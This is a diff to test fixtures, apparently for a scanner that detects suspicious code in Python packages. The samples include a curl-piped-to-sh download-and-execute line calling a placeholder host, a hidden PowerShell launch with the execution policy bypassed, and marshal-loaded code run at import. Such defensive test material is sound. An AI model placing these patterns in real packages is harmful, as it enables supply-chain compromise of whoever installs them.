@@ -104,7 +104,10 @@ FIXTURES: dict[str, tuple[dict[str, str | bytes], str, str, str]] = {
         "1.0.0",
     ),
     "PY-MARSHAL-CODE": (
-        {"demo-1.0/demo/util.py": "import marshal\n\ndef f(b):\n    return marshal.loads(b)\n"},
+        {
+            "demo-1.0/demo/__init__.py": "import marshal\nfrom . import blob\n"
+            "CODE = marshal.loads(blob.DATA)\n"
+        },
         "pypi",
         "demo-widget",
         "1.0.0",
@@ -217,6 +220,15 @@ FIXTURES: dict[str, tuple[dict[str, str | bytes], str, str, str]] = {
     ),
     "CNT-DOWNLOAD-EXEC": (
         {"demo-1.0/demo/tool.sh": "curl -s https://example.invalid/i.sh | " + "sh\n"},
+        "pypi",
+        "demo-widget",
+        "1.0.0",
+    ),
+    "CNT-POWERSHELL-HIDDEN": (
+        {
+            "demo-1.0/demo/tool.py": "CMD = ['powershell.exe', '-WindowStyle', 'Hidden', "
+            "'-ExecutionPolicy', 'Bypass', '-File', 'x.ps1']\n"
+        },
         "pypi",
         "demo-widget",
         "1.0.0",
